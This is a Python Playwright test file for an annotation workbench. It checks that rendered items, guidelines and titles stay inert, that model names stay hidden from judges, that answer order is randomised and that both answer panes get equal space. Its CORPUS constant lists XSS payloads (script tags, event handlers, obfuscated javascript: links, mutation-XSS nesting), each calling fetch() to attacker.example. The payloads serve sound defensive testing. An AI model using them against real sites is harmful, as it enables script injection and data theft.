"""What an item, an answer, a guideline or a title may never do: act, fetch, or tell which model wrote it. And what the
page may never do: show one answer better than the other.
"""

from __future__ import annotations

import pytest
from playwright.sync_api import BrowserContext, Dialog, Page, Route, expect

from e2e.base import Base
from e2e.conftest import Visit
from e2e.hands import ANY_ITEM, give_reason, open_workbench, press, rows_of, score_pair, submit_by
from e2e.seeding import answer_all, open_project, sample_records

pytestmark = pytest.mark.browser
ELSEWHERE = "http://attacker.example"
HARM = f"window.harmed=1;alert(1);fetch('{ELSEWHERE}/took')"
CORPUS = f"""开头
<script>{HARM}</script>
<img src=x onerror="{HARM}">
<img src="{ELSEWHERE}/pixel.png">
![看图]({ELSEWHERE}/seen.png)
[点我](javascript:{HARM})
[点我](JaVaScRiPt:{HARM})
[数据](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
<svg onload="{HARM}"><script>{HARM}</script></svg>
<math><mtext><mglyph><style><img src=x onerror="{HARM}"></style></mglyph></mtext></math>
<style>@import url("{ELSEWHERE}/look.css"); body {{ background: url("{ELSEWHERE}/back.png") }}</style>
<iframe src="javascript:{HARM}"></iframe>
<a href="java&#x09;script:{HARM}">制表符</a>
$\\href{{javascript:{HARM}}}{{x}}$ $\\includegraphics{{{ELSEWHERE}/m.png}}$
<details open ontoggle="{HARM}"><summary>展开</summary></details>

```html
<script>{HARM}</script>
```
结尾"""
HARMFUL = (
    ".prose :is(script, style, svg, img, iframe, object, embed, form, link, meta, base),"
    " [onerror], [onload], [ontoggle], a[href^='javascript' i], a[href^='data' i]"
)
MODELS = ("sample-model-a", "sample-model-b")


def watch(page: Page) -> list[str]:
    """Collect every dialog that the page's scripts open."""
    opened: list[str] = []

    def note(dialog: Dialog) -> None:
        opened.append(dialog.message)
        dialog.dismiss()

    page.on("dialog", note)
    return opened


def is_unharmed(page: Page) -> None:
    """See that the corpus is shown, to its end, and that nothing of it acts."""
    expect(page.get_by_text("结尾").filter(visible=True).first).to_be_visible()
    expect(page.locator(HARMFUL)).to_have_count(0)
    assert page.evaluate("() => window.harmed") is None


def test_the_corpus_does_nothing_anywhere(visit: Visit, base: Base) -> None:
    record = sample_records("comparison", items=1)[0]
    record["conversation"][-1]["content"] = CORPUS
    for candidate in record["candidates"]:
        candidate["content"] = CORPUS
    project_id = open_project(
        base, "comparison", records=[record], guideline_md=CORPUS, inspection_bp=10_000,
        title=f"<img src=x onerror={HARM}>",
    )  # fmt: skip

    page = visit("annotator", f"/work/{project_id}")
    opened = watch(page)
    is_unharmed(page)  # the guideline
    page.get_by_role("button", name="我已阅读并理解").click()
    expect(page.get_by_role("group", name="回答 A")).to_contain_text("开头")
    is_unharmed(page)
    press(page, "p", "r", "r", "g")  # the prompt unfolded, the source, the guideline beside
    is_unharmed(page)
    press(page, "g")
    score_pair(page, *[(4, 2)] * 5)
    press(page, "Digit2")
    give_reason(page, CORPUS)
    submit_by(page, "Control+Enter")
    page.goto("/answers")
    rows_of(page, "提交记录").last.click()
    is_unharmed(page)

    inspector = visit("inspector", "/inspect")
    opened_there = watch(inspector)
    inspector.get_by_role("button", name="从等待最久的开始").click()
    is_unharmed(inspector)

    manager = visit("project-manager", f"/manage/projects/{project_id}/guideline")
    opened_at_last = watch(manager)
    is_unharmed(manager)
    manager.get_by_role("link", name="题目").click()
    rows_of(manager, "题目").last.click()
    is_unharmed(manager)
    assert opened + opened_there + opened_at_last == []


def record_answers(context: BrowserContext) -> list[str]:
    """Keep the text of everything that the API answers in this browser."""
    texts: list[str] = []

    def pass_on(route: Route) -> None:
        answer = route.fetch()
        texts.append(answer.text())
        route.fulfill(response=answer)

    context.route("**/api/**", pass_on)
    return texts


def test_nobody_who_judges_learns_the_model(visit: Visit, base: Base) -> None:
    projects = [
        open_project(base, kind, items=3, inspection_bp=10_000) for kind in ("comparison", "rating", "sft")
    ]
    said: list[str] = []
    for project_id in projects:
        answer_all(base, project_id, "annotator-2", items=1)
        page = open_workbench(visit, base, project_id)
        texts = record_answers(page.context)
        page.reload()
        expect(page.get_by_role("heading", name=ANY_ITEM)).to_be_focused()
        page.goto("/home")
        expect(page.get_by_text("继续上次")).to_be_visible()
        said += [*texts, page.content()]
    inspector = visit("inspector", "/inspect")
    texts = record_answers(inspector.context)
    inspector.get_by_role("button", name="从等待最久的开始").click()
    expect(inspector.get_by_role("radiogroup", name="判定")).to_be_visible()
    said += [*texts, inspector.content()]

    assert len(said) > 12
    assert [text for text in said if any(model in text for model in MODELS)] == []
    manager = visit("project-manager", f"/manage/projects/{projects[0]}/items")
    rows_of(manager, "题目").last.click()
    expect(manager.get_by_text("模型：sample-model-a")).to_be_visible()  # who may know it, does


def test_the_order_of_the_answers_is_drawn_for_each_person(base: Base) -> None:
    project_id = open_project(base, "comparison", items=20, overlap=2)
    answer_all(base, project_id, "annotator", "annotator-2", items=20)

    rows = base.ask(
        "SELECT person_id, item_id, slots FROM answer WHERE project_id = %(id)s ORDER BY item_id",
        id=project_id,
    )
    orders: dict[int, set[str]] = {}
    for row in rows:
        orders.setdefault(row["item_id"], set()).add("".join(row["slots"]))
    first_person = {"".join(row["slots"]) for row in rows if row["person_id"] == rows[0]["person_id"]}

    assert set(map(frozenset, orders.values())) == {frozenset({"c1c2", "c2c1"})}  # both orders, on every item
    assert first_person == {"c1c2", "c2c1"}  # and nobody sees only one


@pytest.mark.parametrize("size", [(1366, 768), (1440, 900), (1920, 1080)], ids=lambda size: f"{size[0]}")
def test_both_answers_have_the_same_room(visit: Visit, base: Base, size: tuple[int, int]) -> None:
    record = sample_records("comparison", items=1)[0]
    record["candidates"][0]["content"] = "短。"
    record["candidates"][1]["content"] = (
        f"```\n{'很长的一行代码 ' * 60}\n```\n\n| {'宽 | ' * 40}\n" + "长。\n\n" * 80
    )
    project_id = open_project(base, "comparison", records=[record])
    page = open_workbench(visit, base, project_id)
    page.set_viewport_size({"width": size[0], "height": size[1]})

    panes = [page.get_by_role("region", name=f"回答 {slot}") for slot in "AB"]
    first, second = (pane.bounding_box() for pane in panes)
    assert first is not None
    assert second is not None
    assert abs(first["width"] - second["width"]) <= 1
    assert (first["y"], first["height"]) == (second["y"], second["height"])
    room = (first["width"] * first["height"] + second["width"] * second["height"]) / (size[0] * size[1])
    assert room >= 0.45
    looks = (
        "(pane) => { const {fontSize, fontFamily, lineHeight, color, padding} = getComputedStyle(pane);"
        " return [fontSize, fontFamily, lineHeight, color, padding, pane.scrollTop]; }"
    )
    assert panes[0].get_by_role("group").evaluate(looks) == panes[1].get_by_role("group").evaluate(looks)
